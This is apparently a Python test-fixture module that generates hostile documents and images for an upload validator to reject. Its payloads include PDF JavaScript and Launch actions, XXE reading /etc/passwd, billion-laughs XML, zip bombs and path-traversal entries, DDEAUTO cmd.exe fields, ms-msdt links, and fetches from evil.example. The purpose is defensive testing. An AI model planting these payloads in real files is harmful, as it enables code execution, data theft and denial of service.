"""Files nobody may get stored: cut, damaged, disguised, locked, oversized, or built to act when they are opened.

`fixed()` lists one of each trick, `cut()` whole files cut at many places, `corpus(count)` mixes both to a number. Each
is (what, name, content); every one of them is to be refused with a sentence, none may bring anything down.
"""

import io
import random
import struct
import zipfile
import zlib
from itertools import islice

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image
from reportlab.pdfgen import canvas

from tests.handed_in import WORD, W, docx, jpeg, pdf, png, relations, stream, xlsx

HTML = b"<html><script>alert(1)</script></html>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    + "]><a>&j;</a>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def fixed():
    """Return one of each trick."""
    return [*_named(), *_pdfs(), *_packages(), *_parts(), *_pictures()]


def _named():
    good = pdf()
    names = [
        "a.html",
        "a.svg",
        "a.exe",
        "a.docm",
        "a.doc",
        "a.zip",
        "a.pdf.exe",
        "a.pdf\x00.exe",
        "\u202efdp.exe",
        "pdf",
        "a.",
    ]
    yield from ((f"name {name!r}", name, good) for name in names)
    yield "empty", "a.pdf", b""
    yield from (
        (f"html as {ending}", f"a.{ending}", HTML) for ending in ("pdf", "docx", "xlsx", "png", "jpg")
    )
    yield "pdf as docx", "a.docx", good
    yield "docx as pdf", "a.pdf", docx()
    yield "docx as xlsx", "a.xlsx", docx()
    yield "png as jpg", "a.jpg", png()


def _pdfs():
    acts = {
        "script": b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        "script by name": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>",
        "escaped script": b"/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>",
        "launch": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        "web on opening": b"/OpenAction<</S/URI/URI(https://evil.example)>>",
        "form sent": b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>",
        "other file": b"/OpenAction<</S/GoToR/F(//evil/share)>>",
        "xfa": b"/AcroForm<</XFA(x)/Fields[]>>",
        "embedded": b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]>>>>",
        "portfolio": b"/Collection<</Type/Collection>>",
        "additional act": b"/AA<</WC<</S/JavaScript/JS(1)>>>>",
    }
    blob = stream(b"MZ", b"/Type/EmbeddedFile")
    yield from ((f"pdf {what}", "a.pdf", pdf(catalog=given, objects=[blob])) for what, given in acts.items())
    notes = {
        "media": b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>]",
        "attached": b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 1 1]>>]",
        "script link": b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(javascript:alert(1))>>>>]",
        "file link": b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(file:///etc/passwd)>>>>]",
        "movie": b"/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 1 1]>>]",
        "chained": b"/Annots[<</Subtype/Link/A<</S/GoTo/D[0]/Next<</S/JavaScript/JS(1)>>>>>>]",
    }
    yield from ((f"pdf {what}", "a.pdf", pdf(page=given)) for what, given in notes.items())
    good = pdf()
    yield "pdf behind html", "a.pdf", HTML + good
    yield "pdf before html", "a.pdf", good + HTML
    yield "pdf in html", "a.pdf", pdf("<html><script>alert(1)</script>")
    yield "pdf and zip", "a.pdf", good + docx()
    yield "pdf around zip", "a.pdf", pdf(objects=[stream(docx())])
    yield "pdf before a program", "a.pdf", good + b"MZ" + bytes(40)
    yield "pdf locked for changes", "a.pdf", locked("")
    yield "pdf locked", "a.pdf", locked()
    yield (
        "pdf without pages",
        "a.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
    )
    yield "pdf wrong table", "a.pdf", good.replace(b"startxref\n", b"startxref\n9")
    yield "pdf deep", "a.pdf", pdf(page=b"/X" + b"[" * 400 + b"]" * 400)
    yield "pdf hidden script", "a.pdf", in_object_stream()


def in_object_stream():
    """Return a PDF whose script lies compressed in an object stream, where no search of its bytes finds it."""
    out = io.BytesIO()
    with pikepdf.open(
        io.BytesIO(pdf(catalog=b"/OpenAction 4 0 R", objects=[b"<</S/JavaScript/JS(1)>>"]))
    ) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def locked(user="u"):
    """Return a PDF that asks for a password; with none for its reader, only for changes."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user=user))
    return out.getvalue()


def _packages():
    good = docx()
    names = [
        "../a.xml",
        "/etc/passwd",
        "a\\b.xml",
        "C:/a.xml",
        "word/./a.xml",
        "word//a.xml",
        "word/a\x07.xml",
    ]
    yield from ((f"zip name {name!r}", "a.docx", docx(parts=[(name, "<a/>")])) for name in names)
    yield "zip case twin", "a.docx", docx(parts=[("WORD/document.xml", "<a/>")])
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    yield "zip symlink", "a.docx", docx(parts=[(link, "/etc/passwd")])
    yield "zip many", "a.docx", docx(parts=[(f"word/{n}.xml", "<a/>") for n in range(1_001)])
    yield "zip bomb", "a.docx", docx(parts=[("word/media/a.xml", b" " * 20_000_000)])
    yield (
        "zip bomb in small parts",
        "a.docx",
        docx(parts=[(f"word/{n}.bin", bytes(900_000)) for n in range(60)]),
    )
    yield "zip claims 4 GB", "a.docx", claiming(good)
    yield "zip says less than it holds", "a.docx", understating(good)
    yield "zip locked", "a.docx", flagged(good)
    yield "zip overlapping", "a.docx", overlapping()
    yield "zip behind html", "a.docx", HTML + good
    yield "zip before html", "a.docx", good + HTML
    yield "zip with a comment", "a.docx", commented(good)
    yield "zip with a plain comment", "a.docx", commented(good, b"x" * 40)
    yield "zip in zip", "a.docx", docx(parts=[("word/media/a.png", good)])
    yield "program in zip", "a.docx", docx(parts=[("word/media/a.png", b"MZ\x90\x00")])
    yield "zip damaged", "a.docx", good.replace(b"PK\x01\x02", b"PK\x01\x09", 1)
    yield "zip wrong checksum", "a.docx", wrong_checksum(good)


def claiming(content):
    """Return the archive with a directory that claims four gigabytes for its first entry."""
    at = content.index(b"PK\x01\x02")
    return content[: at + 24] + b"\xfe\xff\xff\xff" + content[at + 28 :]


def understating(content):
    """Return the archive with a directory that claims three bytes for its first entry."""
    at = content.index(b"PK\x01\x02")
    return content[: at + 24] + b"\x03\x00\x00\x00" + content[at + 28 :]


def flagged(content):
    """Return the archive with its first entry marked as encrypted."""
    at = content.index(b"PK\x01\x02")
    return content[: at + 8] + b"\x01\x00" + content[at + 10 :]


def wrong_checksum(content):
    """Return the archive with another checksum for its first entry, in both places."""
    at = content.index(b"PK\x01\x02")
    changed = content[: at + 16] + b"abcd" + content[at + 20 :]
    return changed[:14] + b"abcd" + changed[18:]


def commented(content, comment=HTML):
    """Return the archive with a comment, a page of the web where nothing else is given."""
    at = content.rindex(b"PK\x05\x06")
    return content[: at + 20] + struct.pack("<H", len(comment)) + comment


def overlapping():
    """Return an archive two of whose entries are the same bytes."""
    out = io.BytesIO(docx(parts=[("word/a.xml", "<a/>"), ("word/b.xml", "<a/>")]))
    with zipfile.ZipFile(out, "a") as archive:
        first, second = archive.infolist()[-2:]
        second.header_offset = first.header_offset
        archive._didModify = True
    return out.getvalue()


def _parts():
    def field(text):
        return f"<w:document {W}><w:fldSimple w:instr='{text}'/></w:document>"

    split = (
        f"<w:document {W}><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c cmd</w:instrText></w:r>"
        "</w:document>"
    )
    override = '<Override PartName="/word/x" ContentType="%s"/>'
    yield "macro", "a.docx", docx(parts=[("word/vbaProject.bin", "x")])
    yield "macro by another name", "a.docx", docx(types=override % "application/vnd.ms-office.vbaProject")
    yield (
        "macro document",
        "a.docx",
        docx().replace(WORD.encode(), WORD.encode()) and docx(types=override % MACRO_TYPE),
    )
    yield "activex", "a.docx", docx(parts=[("word/activeX/activeX1.xml", "<a/>")])
    yield "ole", "a.docx", docx(parts=[("word/embeddings/oleObject1.bin", "x")])
    yield "ole by content", "a.docx", docx(parts=[("word/media/x.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")])
    yield "embedded by its folder", "a.docx", docx(parts=[("word/embeddings/a.bin", "x")])
    yield "embedded workbook", "a.docx", docx(parts=[("word/embeddings/a.xlsx", xlsx())])
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath"):
        yield f"external {kind}", "a.docx", docx(parts=[relations(kind, "https://evil.example/a")])
    for target in (
        "file:///etc/passwd",
        "\\\\evil\\share",
        "javascript:alert(1)",
        "ms-msdt:/id",
        "//evil.example",
    ):
        yield f"link to {target}", "a.docx", docx(parts=[relations("hyperlink", target)])
    yield "control", "a.docx", docx(parts=[relations("control", "a.xml", "")])
    yield "dde", "a.docx", docx(body=field("DDEAUTO c:\\\\cmd.exe"))
    yield "dde in two runs", "a.docx", docx(body=split)
    yield "fetched picture", "a.docx", docx(body=field('INCLUDEPICTURE "https://evil.example/a.png"'))
    yield (
        "dde in a workbook",
        "a.xlsx",
        xlsx(parts=[("xl/externalLinks/externalLink1.xml", "<x><ddeLink/></x>")]),
    )
    yield "inserted chunk", "a.docx", docx(body=f"<w:document {W}><w:altChunk/></w:document>")
    for what, body in (
        ("laughs", LAUGHS),
        ("xxe", XXE),
        ("utf-16 xxe", XXE.replace("?>", ' encoding="utf-16"?>').encode("utf-16")),
    ):
        yield f"docx {what}", "a.docx", docx(body=body)
        yield f"xlsx {what}", "a.xlsx", xlsx(parts=[("xl/sharedStrings.xml", body)])
        yield f"relations {what}", "a.docx", docx(parts=[("word/_rels/document.xml.rels", body)])
    yield "vml xxe", "a.xlsx", xlsx(parts=[("xl/drawings/vmlDrawing1.vml", XXE)])
    yield "deep xml", "a.docx", docx(body="<a>" * 5_000 + "</a>" * 5_000)
    yield "unclosed xml", "a.docx", docx(body="<a><b></a>")
    yield "unknown encoding", "a.docx", docx(body='<?xml version="1.0" encoding="klingon"?><a/>')
    yield (
        "another type",
        "a.docx",
        docx().replace(b"x", b"x") and docx(parts=[relations("vbaProject", "a.bin", "")]),
    )


def _pictures():
    yield "png wide", "a.png", png(10_001, 1)
    yield "png huge", "a.png", png(100_000, 100_000, rows=zlib.compress(b"\x00"))
    yield "png without points", "a.png", png(0, 0, rows=zlib.compress(b"\x00"))
    yield "png short rows", "a.png", png(50, 50, rows=zlib.compress(bytes(51 * 49)))
    yield "png bomb", "a.png", png(50, 50, rows=zlib.compress(bytes(10_000_000)))
    yield "png tail", "a.png", png() + HTML
    yield "png and zip", "a.png", png() + docx()
    yield "png around zip", "a.png", png(chunks=[(b"zzZz", docx())])
    yield "png with a page", "a.png", png(chunks=[(b"tEXt", b"a\x00" + HTML)])
    yield "png wrong checksum", "a.png", png().replace(b"IDAT", b"IDAt")
    yield (
        "png wrong checksum of a note",
        "a.png",
        png(chunks=[(b"tEXt", b"a\0note")]).replace(b"note", b"nota"),
    )
    yield "png with a pdf head", "a.png", png(chunks=[(b"tEXt", b"a\x00" + pdf())])
    yield "jpg wide", "a.jpg", jpeg(10_001, 1)
    yield "jpg huge", "a.jpg", jpeg(65_535, 65_535)
    yield "jpg tail", "a.jpg", jpeg(tail=HTML)
    yield "jpg and zip", "a.jpg", jpeg(tail=docx())
    yield "jpg around zip", "a.jpg", jpeg(segments=b"\xff\xfe" + struct.pack("!H", len(docx()) + 2) + docx())
    yield "jpg with a page", "a.jpg", jpeg(segments=b"\xff\xfe" + struct.pack("!H", len(HTML) + 2) + HTML)
    yield "jpg before a program", "a.jpg", jpeg(tail=b"MZ" + bytes(40))
    far = bytes(2_000) + HTML
    yield (
        "jpg with a page far in",
        "a.jpg",
        jpeg(segments=b"\xff\xfe" + struct.pack("!H", len(far) + 2) + far),
    )
    yield "jpg of nothing", "a.jpg", b"\xff\xd8\xff\xd9"
    yield "jpg segment past the end", "a.jpg", b"\xff\xd8\xff\xe0\xff\xff\xff\xd9"
    yield "jpg endless markers", "a.jpg", b"\xff" * 100_000


# --- whole files, cut ------------------------------------------------------------------------------------------------


def wholes():
    """Return a file of each kind as the usual programs write it."""
    return {
        "a.pdf": _written_pdf(),
        "a.docx": _saved(_written_docx()),
        "a.xlsx": _saved(_written_xlsx()),
        "a.png": _picture("PNG"),
        "a.jpg": _picture("JPEG"),
    }


def _saved(document):
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _written_pdf():
    out = io.BytesIO()
    page = canvas.Canvas(out)
    for number in range(40):
        page.drawString(72, 800 - 18 * number, f"Ke hoach so {number}")
    page.linkURL("https://example.vn/", (72, 72, 144, 144))
    page.save()
    return out.getvalue()


def _written_docx():
    document = Document()
    for number in range(20):
        document.add_paragraph(f"Kế hoạch số {number}: nội dung, thời hạn, cơ quan chủ trì")
    return document


def _written_xlsx():
    book = Workbook()
    for number in range(60):
        book.active.append([number, f"Nhiệm vụ {number}", "=1+1"])
    return book


def _picture(form):
    out = io.BytesIO()
    dice = random.Random(7)
    Image.frombytes("RGB", (90, 90), dice.randbytes(90 * 90 * 3)).save(out, form)
    return out.getvalue()


def cut(pieces):
    """Yield each whole file cut at so many places, spread over it."""
    for name, content in wholes().items():
        last = len(content.rstrip(b"\r\n")) - 1
        for number in range(pieces):
            at = 1 + last * number // pieces
            yield f"{name} cut at {at}", name, content[:at]


def corpus(count):
    """Return so many hostile files: every trick once, the rest whole files cut short."""
    tricks = fixed()[:count]
    pieces = -(-(count - len(tricks)) // 5)
    return tricks + list(islice(cut(pieces), count - len(tricks)))
